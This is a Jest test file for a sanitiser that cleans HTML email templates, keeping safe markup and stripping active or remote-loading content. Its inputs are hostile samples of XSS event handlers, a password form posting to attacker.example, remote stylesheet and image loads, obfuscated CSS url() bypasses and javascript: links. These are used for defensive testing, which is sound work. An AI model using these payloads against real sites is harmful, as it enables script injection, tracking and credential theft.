import { sanitizeTemplateHtml } from '@server/templates/sanitize-template-html';
import { DEFAULT_TEMPLATES } from '@server/templates/defaults';
import { button, htmlLayout } from '@server/templates/layout';

describe('template HTML sanitising', () => {
  it('keeps every shipped default as it is, frame and doctype included', () => {
    for (const catalogue of Object.values(DEFAULT_TEMPLATES)) {
      for (const { html } of Object.values(catalogue))
        expect(sanitizeTemplateHtml(html)).toBe(html);
    }
    const framed = htmlLayout(button('Go'), 'en');
    expect(sanitizeTemplateHtml(framed)).toBe(framed);
    expect(framed).toMatch(/^<!doctype html>\n<html lang="en">\n<body style="margin:0;/);
  });

  it('drops scripts, event attributes, forms, frames and embedded objects', () => {
    expect(
      sanitizeTemplateHtml(
        '<p onclick="steal()" onmouseover="steal()">Hi<script>steal()</script></p>' +
          '<form action="https://attacker.example"><input name="password"><button>Go</button></form>' +
          '<object data="https://attacker.example/x"></object><embed src="https://attacker.example/x">' +
          '<iframe src="https://attacker.example"></iframe><svg onload="steal()"></svg>'
      )
    ).toBe('<p>Hi</p>Go');
  });

  it('loads nothing: no image, no stylesheet, no CSS url(), no refresh', () => {
    expect(
      sanitizeTemplateHtml(
        '<html><head><meta http-equiv="refresh" content="0;url=https://attacker.example">' +
          '<link rel="stylesheet" href="https://attacker.example/s.css">' +
          '<style>@import "https://attacker.example/s.css";</style></head>' +
          '<body><img src="https://attacker.example/p.png"><img src="data:image/png;base64,AAAA">' +
          '<table background="https://attacker.example/bg.png"><tr>' +
          '<td background="https://attacker.example/bg.png" style="background:url(https://attacker.example/bg.png)">x</td>' +
          '</tr></table><video poster="https://attacker.example/p.png"></video></body></html>'
      )
    ).toBe('<html><head></head><body><table><tr><td>x</td></tr></table></body></html>');
  });

  it.each([
    'background:url(https://attacker.example/p.png)',
    'background: URL (https://attacker.example/p.png)',
    'background-image:image-set("https://attacker.example/p.png" 1x)',
    'width:expression(alert(1))',
    'background:u\\72l(https://attacker.example/p.png)',
    'color:red;@import "https://attacker.example/s.css"',
    'behavior:u/**/rl(x.htc)',
    'color:{{ username }}',
  ])('drops the style %p whole', (style) => {
    expect(sanitizeTemplateHtml(`<p style='${style}'>x</p>`)).toBe('<p>x</p>');
  });

  it('keeps inline styles that load nothing, as written', () => {
    const styled =
      '<td style="color:rgb(50, 50, 77);background-color:#f6f6f9;font-family:\'Segoe UI\', Arial;">x</td>';
    expect(sanitizeTemplateHtml(`<table><tr>${styled}</tr></table>`)).toBe(
      `<table><tr>${styled}</tr></table>`
    );
  });

  it('keeps table layout attributes', () => {
    const table =
      '<table role="presentation" width="100%" cellspacing="0" cellpadding="0" border="0" bgcolor="#ffffff">' +
      '<tr valign="top"><td align="center" width="560" colspan="2" bgcolor="#f6f6f9">x</td></tr></table>';
    expect(sanitizeTemplateHtml(table)).toBe(table);
  });

  it('keeps links to http, https, mailto and a placeholder of a platform URL; drops other addresses', () => {
    const kept = [
      'https://learn.example.com/courses',
      'http://learn.example.com',
      'mailto:help@example.com',
      '{{ link }}',
      '{{platformUrl}}/courses',
      '{{ unsubscribeLink }}',
    ];
    for (const href of kept) {
      const link = `<a href="${href}">x</a>`;
      expect(sanitizeTemplateHtml(link)).toBe(link);
    }
    for (const href of [
      'javascript:alert(1)',
      'JaVaScRiPt&#58;alert(1)',
      'data:text/html,<script>alert(1)</script>',
      '//attacker.example',
      'vbscript:x',
      '{{ username }}',
      'courses',
    ]) {
      expect(sanitizeTemplateHtml(`<a href="${href}">x</a>`)).toBe('<a>x</a>');
    }
  });

  it('keeps text as text', () => {
    expect(sanitizeTemplateHtml('<p>Hello {{ username }} &amp; &lt;b&gt; · æøå</p>')).toBe(
      '<p>Hello {{ username }} &amp; &lt;b&gt; · æøå</p>'
    );
  });

  it('is stable: what it answers, it answers again unchanged', () => {
    const messy =
      '<!DOCTYPE html><p onclick="x">a<br>b<hr><b>c</p><a href="{{ link }}" style="color:red">d<img src="x">';
    const once = sanitizeTemplateHtml(messy);
    expect(sanitizeTemplateHtml(once)).toBe(once);
  });
});
